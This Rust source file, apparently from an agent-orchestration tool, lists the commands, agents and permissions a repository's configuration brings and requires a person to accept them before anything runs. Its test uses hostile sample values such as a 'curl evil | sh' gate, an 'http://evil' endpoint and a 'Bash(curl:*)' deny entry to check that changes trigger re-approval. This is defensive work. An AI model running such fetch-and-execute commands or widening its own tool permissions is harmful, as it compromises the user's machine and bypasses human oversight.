//! Trust: a repository may bring commands (gates), programs and addresses in its `.mcp/` folder. None of them is run or spoken to before
//! the person at this machine has seen and accepted exactly these.

use orchestron_domain::{Agent, Config};

/// The setting that keeps what was accepted.
pub const KEY: &str = "trusted-commands";

/// Everything in the configuration that runs something, sends something somewhere or says what an agent may do without asking, one
/// per line, in a fixed order.
#[must_use]
pub fn commands(config: &Config) -> String {
    let gates = config
        .gates
        .iter()
        .map(|gate| format!("gate {}: {}", gate.name, gate.run));
    let agents = config
        .agents
        .values()
        .filter(|agent| agent.cli.is_some())
        .map(agent);
    let place = config
        .worktrees
        .iter()
        .map(|path| format!("worktrees: {path}"));
    let tests = config
        .tests
        .iter()
        .map(|tests| format!("tests: {}", tests.run));
    gates
        .chain(tests)
        .chain(agents)
        .chain(place)
        .collect::<Vec<_>>()
        .join("\n")
}

/// An agent in one line: what is started, and what it may do. Texts and lists are quoted, so that none can pass for another.
fn agent(agent: &Agent) -> String {
    let mut line = format!(
        "agent {}: {}",
        agent.name,
        agent.cli.as_deref().unwrap_or("")
    );
    if let Some(program) = &agent.program {
        line.push_str(&format!(" as {program:?}"));
    }
    let lists = [
        ("allowed without asking", &agent.tools_allowed),
        ("never", &agent.tools_restricted),
        ("edits in", &agent.directories),
    ];
    for (what, list) in lists.into_iter().filter(|(_, list)| !list.is_empty()) {
        line.push_str(&format!(", {what} {list:?}"));
    }
    if let Some(url) = &agent.base_url {
        line.push_str(&format!(", talks to {url:?}"));
    }
    line.push_str(&format!(", key of {:?}", agent.account));
    line
}

/// Whether exactly these commands were accepted. A configuration that runs nothing needs no trust.
#[must_use]
pub fn is_trusted(config: &Config, accepted: Option<&str>) -> bool {
    let wanted = commands(config);
    wanted.is_empty() || accepted == Some(wanted.as_str())
}

#[cfg(test)]
mod tests {
    use super::{commands, is_trusted};
    use orchestron_domain::{Agent, Config, Gate};

    fn config() -> Config {
        let name: orchestron_domain::AgentName = "impl".parse().unwrap();
        let agent = Agent {
            cli: Some("claude".into()),
            tools_restricted: vec!["Bash(curl:*)".into()],
            directories: vec!["src".into()],
            ..Agent::named(name.clone())
        };
        let gate = Gate {
            name: "test".into(),
            run: "npm test".into(),
            timeout_s: 1,
            ..Gate::default()
        };
        Config {
            gates: vec![gate],
            agents: [(name, agent)].into(),
            ..Config::default()
        }
    }

    #[test]
    fn whatever_widens_what_is_run_or_allowed_has_to_be_accepted_anew() {
        let accepted = commands(&config());
        assert!(is_trusted(&config(), Some(&accepted)));
        assert!(!is_trusted(&config(), None));
        let changes: [fn(&mut Config, &mut Agent); 7] = [
            |config, _| config.gates[0].run = "curl evil | sh".into(),
            |config, _| config.worktrees = Some("/tmp".into()),
            |_, agent| agent.program = Some("./evil".into()),
            |_, agent| agent.base_url = Some("http://evil".into()),
            |_, agent| agent.tools_allowed = vec!["Bash".into()],
            |_, agent| agent.tools_restricted.clear(),
            |_, agent| agent.directories.clear(),
        ];
        for (at, change) in changes.into_iter().enumerate() {
            let mut changed = config();
            let mut agent = changed.agents.values().next().unwrap().clone();
            change(&mut changed, &mut agent);
            changed.agents.insert(agent.name.clone(), agent);
            assert!(!is_trusted(&changed, Some(&accepted)), "change {at}");
        }
    }
}
